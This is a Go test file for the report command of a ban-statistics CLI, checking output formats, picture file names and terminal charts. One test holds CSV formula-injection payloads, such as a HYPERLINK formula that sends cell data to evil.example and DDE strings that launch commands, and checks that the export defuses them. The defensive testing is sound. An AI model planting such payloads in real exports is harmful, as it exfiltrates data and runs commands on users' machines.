package cli

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"friendlyfire/acceptance/harness"
	"friendlyfire/bot"
)

// Promise: a picture of a kind that cannot be written is refused before anything is read or written, and the error says
// what is wrong, with which file, and which names would do.
func TestReportRefusesPicturesThatItCannotWrite(t *testing.T) {
	s := harness.NewScene(t, harness.TableOnly)
	for name, kind := range map[string]string{
		"x.jpg": ".jpg", "X.JPG": ".jpg", "a.png.jpeg": ".jpeg", "bans.gif": ".gif", "bans.webp": ".webp", "a b.pdf": ".pdf",
		".jpg": ".jpg",
	} {
		t.Run(name, func(t *testing.T) {
			out := filepath.Join(s.Dir, name)
			want := "--out " + out + ": no picture can be written as " + kind + "; want a name that ends in .png or .svg"
			_, stderr, code := s.Run("--config", filepath.Join(s.Dir, "there-is-none.toml"), "report", "--out", out)
			if code != exitUsage || !strings.Contains(stderr, want) {
				t.Errorf("code %d, want %d; stderr %q, want %q in it", code, exitUsage, stderr, want)
			}
			if _, err := os.Stat(out); !errors.Is(err, os.ErrNotExist) {
				t.Errorf("the file was made: %v", err)
			}
		})
	}
	for _, name := range []string{"x.png", "X.PNG", "x.svg", "picture"} {
		if _, stderr, code := s.Run("report", "--out", filepath.Join(s.Dir, name)); code != exitDone {
			t.Errorf("%s: code %d, %s", name, code, stderr)
		}
	}
}

func TestReportJSONHasTheDocumentedShape(t *testing.T) {
	s := harness.NewSampleScene(t)
	for _, kind := range bot.Kinds() {
		out, stderr, code := s.Run("report", "--by", kind, "--json")
		if code != 0 || stderr != "" {
			t.Fatalf("code %d: %s", code, stderr)
		}
		var got struct {
			By    string `json:"by"`
			Since string `json:"since"`
			Total int    `json:"total"`
			Rows  []struct {
				Key       *string `json:"key"`
				Name      *string `json:"name"`
				Bans      int     `json:"bans"`
				Addresses int     `json:"addresses"`
				Friendly  *int    `json:"friendly"`
			} `json:"rows"`
		}
		in := json.NewDecoder(strings.NewReader(out))
		in.DisallowUnknownFields()
		if err := in.Decode(&got); err != nil {
			t.Fatalf("%s: %v", kind, err)
		}
		sum, friendly, last := 0, 0, 1<<30
		for _, row := range got.Rows {
			if row.Key == nil || row.Name == nil || row.Friendly == nil || row.Bans > last ||
				row.Addresses > row.Bans || row.Addresses < 1 {
				t.Errorf("%s: bad row %+v", kind, row)
			}
			sum, friendly, last = sum+row.Bans, friendly+*row.Friendly, row.Bans
		}
		if kind == "banned" { // none of the sample's bans is in force
			if got.Total != 0 || len(got.Rows) != 0 {
				t.Errorf("%s: total %d, rows %+v, want none", kind, got.Total, got.Rows)
			}
			continue
		}
		if kind == "users" { // the sample has no log lines
			if got.Total != 1003 || len(got.Rows) != 0 {
				t.Errorf("%s: total %d, rows %+v, want none", kind, got.Total, got.Rows)
			}
			continue
		}
		if kind == "week" {
			if got.Since != "week" || got.Total != sum {
				t.Errorf("week: since %q total %d, rows sum to %d", got.Since, got.Total, sum)
			}
			continue
		}
		if got.By != kind || got.Since != "all" || got.Total != 1003 || sum != 1003 || friendly != 14 {
			t.Errorf("%s: by %q since %q total %d, rows sum to %d, %d friendly",
				kind, got.By, got.Since, got.Total, sum, friendly)
		}
	}
}

func TestReportWithoutBansIsEmptyAndNotAnError(t *testing.T) {
	s := harness.NewScene(t, harness.TableOnly)
	out := s.MustRun("report", "--json", "--since", "24h")
	if want := `{"by":"country","since":"24h","total":0,"rows":[]}` + "\n"; out != want {
		t.Errorf("got %q, want %q", out, want)
	}
}

func TestReportDrawsEveryKind(t *testing.T) {
	s := harness.NewSampleScene(t)
	for _, kind := range bot.Kinds() {
		name := filepath.Join(s.Dir, kind+".png")
		s.MustRun("report", "--by", kind, "--out", name)
		if picture, err := os.ReadFile(name); err != nil || !harness.IsChart(picture) {
			t.Errorf("%s: no picture of 1280 pixels: %v", kind, err)
		}
	}
}

func TestReportIsAnSVGIfTheFileIsNamedSo(t *testing.T) {
	s := harness.NewSampleScene(t)
	for _, kind := range bot.Kinds() {
		name := filepath.Join(s.Dir, kind+".SVG")
		s.MustRun("report", "--by", kind, "--out", name)
		picture, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		for in, n := xml.NewDecoder(bytes.NewReader(picture)), 0; ; n++ {
			token, err := in.Token()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				t.Fatalf("%s: %v", kind, err)
			}
			if root, ok := token.(xml.StartElement); n == 0 && (!ok || root.Name.Local != "svg") {
				t.Errorf("%s begins with %v, which is no SVG", kind, token)
			}
		}
	}
}

func TestReportCSVHasTheDocumentedShape(t *testing.T) {
	s := harness.NewSampleScene(t)
	for _, kind := range bot.Kinds() {
		out, stderr, code := s.Run("report", "--by", kind, "--csv")
		if code != 0 || stderr != "" || !strings.HasPrefix(out, "key,name,bans,addresses,friendly\n") {
			t.Fatalf("%s: code %d, %s: %.80q", kind, code, stderr, out)
		}
		asJSON := s.MustRun("report", "--by", kind, "--json")
		var want bot.Report
		if err := json.Unmarshal([]byte(asJSON), &want); err != nil {
			t.Fatal(err)
		}
		got := []bot.Row{}
		for _, cells := range readCSV(t, out) {
			got = append(got, bot.Row{
				Key: cells[0], Name: cells[1],
				Bans: integer(t, cells[2]), Addresses: integer(t, cells[3]), Friendly: integer(t, cells[4]),
			})
		}
		if diff := cmp.Diff(want.Rows, got); diff != "" {
			t.Errorf("%s: CSV and JSON differ (-JSON +CSV):\n%s", kind, diff)
		}
	}
}

// readCSV returns the rows under the header.
func readCSV(t *testing.T, text string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows[1:]
}

func integer(t *testing.T, s string) int64 {
	t.Helper()
	n, err := strconv.ParseInt(s, 10, 64)
	if err != nil {
		t.Error(err)
	}
	return n
}

func TestS08ExportsDoNotExecute(t *testing.T) {
	jails := []string{ // in a form that a line of the file can hold, which has no quoting
		"=HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\")", "=cmd|'/c calc'!A1", "+1+1", "-2+3",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1", "\r=1+2", " =1+3", "'=1+4", "＝1+1", "a;=1+1", "\"=1+5\"", "sshd",
	}
	s := harness.NewScene(t, harness.TableOnly)
	for i, jail := range jails {
		at := time.Date(2026, 11, 1, 0, i, 0, 0, time.UTC)
		s.Append(harness.BanRow(at, fmt.Sprintf("198.51.100.%d", i+1), jail, ""))
	}

	out := s.MustRun("report", "--by", "jail", "--csv")
	bans, quoted := int64(0), 0
	for _, cells := range readCSV(t, out) {
		bans += integer(t, cells[2])
		for _, cell := range cells {
			if strings.TrimLeft(cell, "=+-@\t\r\n\x00＝＋－＠") != cell {
				t.Errorf("a spreadsheet would execute %q", cell)
			}
		}
		if strings.HasPrefix(cells[0], "'=") {
			quoted++
		}
	}
	if bans != int64(len(jails)) || quoted < 5 {
		t.Errorf("%d bans of %d, %d formulas quoted:\n%s", bans, len(jails), quoted, out)
	}
}

// This includes characters that no source lets through.
func TestS08EveryCharacterThatStartsAFormulaIsDefused(t *testing.T) {
	for _, start := range []string{"=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠"} {
		if got := defuse(start + "1"); got != "'"+start+"1" {
			t.Errorf("%q stays %q", start+"1", got)
		}
	}
	for _, harmless := range []string{"", "sshd", "a=b", "web-1", "2026-11-22", "North Macedonia", "'=1"} {
		if got := defuse(harmless); got != harmless {
			t.Errorf("%q becomes %q", harmless, got)
		}
	}
}

// fakePicture is a picture whose forms can be told apart.
type fakePicture struct{}

func (fakePicture) PNG() ([]byte, error) { return []byte("PNG"), nil }
func (fakePicture) SVG() ([]byte, error) { return []byte("SVG"), nil }
func (fakePicture) Text(int) string      { return "██ 12\n\n" }

func TestReportIsDrawnInATerminalThatShowsPictures(t *testing.T) {
	const text, kitty = "██ 12\n", "\033_Ga=T,f=100,c=78,q=2,m=0;UE5H\033\\\n"
	tests := map[string]struct {
		onTerminal bool
		term, want string
	}{
		"kitty":            {true, "xterm-kitty", kitty},
		"another terminal": {true, "xterm-256color", text},
		"a pipe in kitty":  {false, "xterm-kitty", text},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			var out strings.Builder
			getenv := func(key string) string { return map[string]string{"TERM": tc.term}[key] }
			if err := printChart(&out, fakePicture{}, tc.onTerminal, getenv); err != nil || out.String() != tc.want {
				t.Errorf("%v, wrote %q, want %q", err, out.String(), tc.want)
			}
		})
	}
}
